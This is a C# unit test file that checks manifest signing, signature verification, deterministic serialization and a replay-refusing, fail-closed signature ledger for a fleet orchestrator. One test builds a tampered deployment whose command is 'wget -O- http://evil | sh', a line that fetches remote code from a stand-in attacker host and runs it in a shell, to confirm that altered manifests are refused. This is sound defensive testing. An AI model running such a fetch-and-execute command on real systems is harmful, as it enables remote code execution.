using Orchestrator.Fleet.Agent;
using Orchestrator.Api;
using Orchestrator.Api.Workloads;

namespace Orchestrator.Fleet.Tests;

public sealed class SigningTests
{
    private static Deployment Web(string command = "sleep 1000") => new()
    {
        Name = "web", Replicas = 2, Selector = new() { ["zone"] = "a", ["arch"] = "x64" },
        Template = new Workload { Image = "busybox", Command = ["sh", "-c", command], Env = new() { ["B"] = "2", ["A"] = "1" } },
    };

    [Fact]
    public void A_signed_deployment_verifies_after_travelling_through_an_assignment()
    {
        var (seed, key) = ManifestSigning.CreateKey();
        var deployment = Web();
        ManifestSigning.Sign(deployment, seed);
        Assert.Equal(key, deployment.Signature!.Key);
        // What a node gets: the assignment's bytes, parsed.
        var assignment = Assignment.Parse(Assignment.For(deployment, "web-1").ToBytes());
        Assert.Null(ManifestSigning.Verify(assignment.Deployment, assignment.Selector, assignment.Template, assignment.Signature, [key]));
        var workload = assignment.ToWorkload();
        Assert.Equal("web-1", workload.Name);
        Assert.Equal("web", workload.Labels!["orch.deployment"]);
    }

    [Fact]
    public void Altered_unsigned_and_untrusted_deployments_are_refused_with_the_reason()
    {
        var (seed, key) = ManifestSigning.CreateKey();
        var (_, other) = ManifestSigning.CreateKey();
        var deployment = Web();
        ManifestSigning.Sign(deployment, seed);
        var altered = Web("wget -O- http://evil | sh");
        Assert.Contains("does not match its content", ManifestSigning.Verify("web", altered.Selector, altered.Template, deployment.Signature, [key]), StringComparison.Ordinal);
        Assert.Contains("does not match", ManifestSigning.Verify("web", new Dictionary<string, string> { ["zone"] = "b" }, deployment.Template, deployment.Signature, [key]), StringComparison.Ordinal);
        Assert.Contains("does not match", ManifestSigning.Verify("api", deployment.Selector, deployment.Template, deployment.Signature, [key]), StringComparison.Ordinal);
        var later = new ManifestSignature { Key = key, Serial = deployment.Signature!.Serial + 1, Sig = deployment.Signature.Sig };
        Assert.Contains("does not match", ManifestSigning.Verify("web", deployment.Selector, deployment.Template, later, [key]), StringComparison.Ordinal);
        Assert.Contains("not signed", ManifestSigning.Verify("web", deployment.Selector, deployment.Template, null, [key]), StringComparison.Ordinal);
        Assert.Contains("not among this node's fleet.trusted_keys", ManifestSigning.Verify("web", deployment.Selector, deployment.Template, deployment.Signature, [other]), StringComparison.Ordinal);
        var garbage = new ManifestSignature { Key = key, Serial = 1, Sig = "not base64!" };
        Assert.NotNull(ManifestSigning.Verify("web", deployment.Selector, deployment.Template, garbage, [key]));
    }

    [Fact]
    public void A_composed_node_value_is_exactly_what_the_serializer_writes()
    {
        var (seed, _) = ManifestSigning.CreateKey();
        var deployment = Web("echo \"quoted\" ünïcode");
        ManifestSigning.Sign(deployment, seed);
        var replicas = new[] { Assignment.For(deployment, "web-0"), Assignment.For(deployment, "web-1") };
        var composed = NodeAssignments.Compose("gw-1", replicas.Select(r => r.ToBytes()));
        Assert.Equal(new NodeAssignments { Node = "gw-1", Replicas = replicas }.ToBytes(), composed);
        Assert.Equal(["web-0", "web-1"], NodeAssignments.Parse(composed).Replicas.Select(r => r.Replica));
    }

    [Fact]
    public void Selector_order_does_not_change_the_signed_bytes()
    {
        var a = Web();
        var b = Web();
        b.Selector = new() { ["arch"] = "x64", ["zone"] = "a" };
        Assert.Equal(ManifestSigning.SignedBytes("web", 5, a.Selector, a.Template), ManifestSigning.SignedBytes("web", 5, b.Selector, b.Template));
    }

    [Fact]
    public void The_ledger_refuses_replays_allows_one_step_back_and_remembers_across_restarts()
    {
        var path = Path.Combine(Path.GetTempPath(), $"ledger-{Guid.NewGuid():N}.json");
        try
        {
            var ledger = new SignatureLedger(path);
            Assert.Null(ledger.Accept("web", 100));
            Assert.Null(ledger.Accept("web", 200));
            Assert.Null(ledger.Accept("web", 300));
            Assert.Null(ledger.Accept("web", 300)); // the same again (another replica, a reconnect)
            Assert.Null(ledger.Accept("web", 200)); // a rollback: the one before
            var replay = ledger.Accept("web", 100);
            Assert.Contains("older than serial 300", replay, StringComparison.Ordinal);
            Assert.Null(ledger.Accept("api", 1)); // per deployment
            var reopened = new SignatureLedger(path);
            Assert.NotNull(reopened.Accept("web", 100));
            Assert.Null(reopened.Accept("web", 200));
        }
        finally
        {
            File.Delete(path);
        }
    }

    [Theory]
    [InlineData("{\"web\": {\"highest\": 3")]
    [InlineData("\u0000\u0000\u0000\u0000")]
    [InlineData("")]
    public void A_damaged_ledger_fails_closed_across_restarts_until_an_operator_removes_it(string damage)
    {
        var path = Path.Combine(Path.GetTempPath(), $"ledger-{Guid.NewGuid():N}.json");
        try
        {
            var ledger = new SignatureLedger(path);
            Assert.Null(ledger.Accept("web", 300));
            File.WriteAllText(path, damage);

            // A forgetful ledger would take the replayed serial 100 as a new node would: refused instead, naming the file and the fix.
            foreach (var reopened in new[] { new SignatureLedger(path), new SignatureLedger(path) })
            {
                var refused = reopened.Accept("web", 100);
                Assert.NotNull(refused);
                Assert.Contains($"{path} is damaged", refused, StringComparison.Ordinal);
                Assert.Contains("refuses every signed deployment (what runs keeps running)", refused, StringComparison.Ordinal);
                Assert.Contains("delete it to start a new ledger", refused, StringComparison.Ordinal);
                Assert.NotNull(reopened.Accept("api", 1));
            }
            Assert.Equal(damage, File.ReadAllText(path)); // left in place: closed until someone decides

            File.Delete(path);
            Assert.Null(new SignatureLedger(path).Accept("web", 100));
        }
        finally
        {
            File.Delete(path);
        }
    }
}
